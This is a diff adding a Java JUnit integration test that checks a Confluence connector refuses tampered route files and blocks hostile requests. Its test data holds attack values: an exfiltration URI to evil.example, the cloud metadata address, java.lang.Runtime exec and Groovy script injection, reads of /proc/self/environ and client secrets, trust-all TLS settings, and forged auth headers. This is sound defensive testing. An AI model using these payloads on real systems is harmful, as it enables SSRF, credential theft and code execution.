@@ -1,0 +1,227 @@
+package io.confluenceconnector.routes;
+
+import com.sun.net.httpserver.HttpServer;
+import io.confluenceconnector.cycle.Count;
+import io.confluenceconnector.cycle.CycleOutcome;
+import io.confluenceconnector.cycle.CycleReport;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+/** The shipped routes with one text replaced by an attack: refused at load, or harmless below the routes. */
+class HostileRoutesIT {
+
+    private static final String CONFLUENCE_URI = "${exchangeProperty.confluenceRequest.uri}";
+    private static final String PLATFORM_URI = "${exchangeProperty.platformRequest.uri}";
+    private static final String UPLOAD_URI = "${exchangeProperty.registration.revealUploadUri}";
+
+    @TempDir
+    Path folder;
+    private HttpServer stranger;
+    private final List<String> stolen = new CopyOnWriteArrayList<>();
+    private RouteTenant tenant;
+
+    @BeforeEach
+    void start() throws IOException {
+        stranger = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+        stranger.createContext("/", exchange -> {
+            stolen.add(exchange.getRequestMethod() + " " + exchange.getRequestHeaders());
+            exchange.sendResponseHeaders(200, -1);
+            exchange.close();
+        });
+        stranger.start();
+        tenant = new RouteTenant();
+        tenant.confluence.page(tenant.confluence.space("DOC", "Documentation", "global"), "Hello", "<p>Hello</p>", RouteTenant.LABEL);
+    }
+
+    @AfterEach
+    void stop() {
+        tenant.close();
+        stranger.stop(0);
+    }
+
+    @ParameterizedTest
+    @DisplayName("S24: a step that would get past the guards is refused before anything of the file is loaded")
+    @CsvSource(delimiter = '|', value = {
+            "uri: confluence:api         | uri: https://evil.example/collect            | the endpoint scheme 'https'",
+            "uri: confluence:api         | uri: http://169.254.169.254/latest/meta-data | the endpoint scheme 'http'",
+            "uri: confluence:api         | uri: confluence:api?httpMethod=DELETE        | the endpoint 'confluence:api?…'",
+            "ref: confluenceAnswerCheck  | ref: java.lang.Runtime                       | the bean 'java.lang.Runtime'",
+            "expression: application/json | expression: '{{env:CLIENT_SECRET}}'         | the placeholder",
+            "expression: application/json | expression: '{{ZITADEL_SECRET}}'            | the placeholder",
+            "expression: application/json | expression: resource:file:/proc/self/environ | a value read from a resource"})
+    void shouldRefuseAtLoad(String original, String attack, String found) {
+        // given
+        Path routes = RouteFolder.tampered(folder, "confluence-request.camel.yaml", original, attack);
+
+        // then
+        assertThatThrownBy(() -> tenant.start(routes)).isInstanceOf(RouteFilesRejectedException.class)
+                .hasMessageContaining(found).hasMessageContaining("confluence-request.camel.yaml:");
+        assertThat(tenant.confluence.requests()).isEmpty();
+    }
+
+    @ParameterizedTest
+    @DisplayName("S13, S24: a step put before the request cannot reach a client, a script, a class or the log of headers")
+    @ValueSource(strings = {"script: {expression: {groovy: {expression: x}}}", "bean: {beanType: java.lang.Runtime, method: exec}",
+            "log: {message: '${headers}'}", "to: {uri: 'log:all', parameters: {showAll: true}}",
+            "to: {uri: 'confluence:api', parameters: {sslContextParameters: '#trustAll'}}",
+            "to: {uri: 'confluence:api', parameters: {x509HostnameVerifier: '#class:org.apache.hc.client5.http.ssl.NoopHostnameVerifier'}}",
+            "to: {uri: 'confluence:api', parameters: {httpMethod: DELETE}}", "toD: {uri: '${header.CamelHttpUri}'}"})
+    void shouldRefuseStepBeforeRequest(String attack) {
+        // given
+        Path routes = RouteFolder.tampered(folder, "confluence-request.camel.yaml",
+                "        - bean:\n            id: confluence-rate-limit", "        - " + attack
+                        + "\n        - bean:\n            id: confluence-rate-limit");
+
+        // then
+        assertThatThrownBy(() -> tenant.start(routes)).isInstanceOf(RouteFilesRejectedException.class)
+                .hasMessageContaining("route 'confluence-attempt'");
+    }
+
+    @Test
+    @DisplayName("S5: a request to a stranger's address never leaves, although the route asks for it")
+    void shouldNotSendToStranger() {
+        // given
+        tenant.start(RouteFolder.tampered(folder, "confluence-request.camel.yaml", CONFLUENCE_URI, strangerUrl()));
+
+        // when
+        CycleReport report = tenant.cycle();
+
+        // then
+        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S5"));
+        assertThat(stolen).isEmpty();
+    }
+
+    @Test
+    @DisplayName("S5: nor does one to an address inside the network")
+    void shouldNotSendToInternalAddress() {
+        // given
+        tenant.start(RouteFolder.tampered(folder, "confluence-request.camel.yaml", CONFLUENCE_URI,
+                "http://169.254.169.254/latest/meta-data"));
+
+        // when
+        CycleReport report = tenant.cycle();
+
+        // then
+        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S5"));
+    }
+
+    @ParameterizedTest
+    @DisplayName("S1: a route that sends another method to Confluence sends nothing")
+    @ValueSource(strings = {"DELETE", "POST", "PUT", "delete", "PATCH"})
+    void shouldOnlyReadConfluence(String method) {
+        // given
+        tenant.start(RouteFolder.tampered(folder, "confluence-request.camel.yaml", "expression: GET", "expression: " + method));
+
+        // when
+        CycleReport report = tenant.cycle();
+
+        // then
+        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S1"));
+        tenant.confluence.assertOnlyReads();
+    }
+
+    @Test
+    @DisplayName("S1: the platform's client cannot be turned against Confluence")
+    void shouldNotPostToConfluence() {
+        // given
+        tenant.start(RouteFolder.tampered(folder, "platform-request.camel.yaml", PLATFORM_URI, tenant.confluenceApi() + "/rest/api/content"));
+
+        // when
+        CycleReport report = tenant.cycle();
+
+        // then
+        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S1"));
+        tenant.confluence.assertOnlyReads();
+    }
+
+    @Test
+    @DisplayName("S5: nor send the platform's credentials to a stranger")
+    void shouldNotSendPlatformCredentialsToStranger() {
+        // given
+        tenant.start(RouteFolder.tampered(folder, "platform-request.camel.yaml", PLATFORM_URI, strangerUrl()));
+
+        // when
+        CycleReport report = tenant.cycle();
+
+        // then
+        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S5"));
+        assertThat(stolen).isEmpty();
+    }
+
+    @Test
+    @DisplayName("S1: the upload client cannot write to Confluence")
+    void shouldNotUploadToConfluence() {
+        // given
+        tenant.start(RouteFolder.tampered(folder, "upload-request.camel.yaml", UPLOAD_URI, tenant.confluenceApi() + "/rest/api/content"));
+
+        // when
+        CycleReport report = tenant.cycle();
+
+        // then
+        assertThat(report.failures()).singleElement()
+                .satisfies(failure -> assertThat(failure.reason()).startsWith("Refused by S1"));
+        tenant.confluence.assertOnlyReads();
+    }
+
+    @Test
+    @DisplayName("S5: an upload to a stranger, which pre-signed addresses may be, carries no credentials")
+    void shouldUploadWithoutCredentials() {
+        // given
+        tenant.start(RouteFolder.tampered(folder, "upload-request.camel.yaml", UPLOAD_URI, strangerUrl()));
+
+        // when
+        CycleReport report = tenant.cycle();
+
+        // then
+        assertThat(report.outcome()).isEqualTo(CycleOutcome.SUCCESS);
+        assertThat(stolen).singleElement().satisfies(request -> assertThat(request).startsWith("PUT")
+                .doesNotContainIgnoringCase("authorization").doesNotContainIgnoringCase("cookie"));
+    }
+
+    @ParameterizedTest
+    @DisplayName("S5: headers that a route adds do not travel, so that nothing is said twice or to the wrong host")
+    @CsvSource({"confluence-request, confluence:api, send-to-confluence", "platform-request, platform:api, send-to-platform",
+            "upload-request, upload:api, send-upload"})
+    void shouldDropHeadersOfRoutes(String file, String endpoint, String step) {
+        // given
+        String to = "        - to:\n            id: " + step;
+        tenant.start(RouteFolder.tampered(folder, file + ".camel.yaml", to, """
+                        - setHeaders:
+                            headers:
+                              - {name: Authorization, expression: {constant: {expression: Bearer forged}}}
+                              - {name: Cookie, expression: {constant: {expression: a=b}}}
+                              - {name: Host, expression: {constant: {expression: evil.example}}}
+                              - {name: CamelHttpQuery, expression: {constant: {expression: a=b}}}
+                              - {name: CamelHttpPath, expression: {constant: {expression: /../admin}}}
+                """ + to));
+
+        // when
+        CycleReport report = tenant.cycle();
+
+        // then
+        assertThat(report.outcome()).as(endpoint).isEqualTo(CycleOutcome.SUCCESS);
+        assertThat(report.total(Count.PAGES_INGESTED)).isOne();
+        assertThat(tenant.platform.violations()).isEmpty();
+        tenant.confluence.assertNoViolations();
+    }
+
+    private String strangerUrl() {
+        return "http://127.0.0.1:" + stranger.getAddress().getPort() + "/collect";
+    }
+}
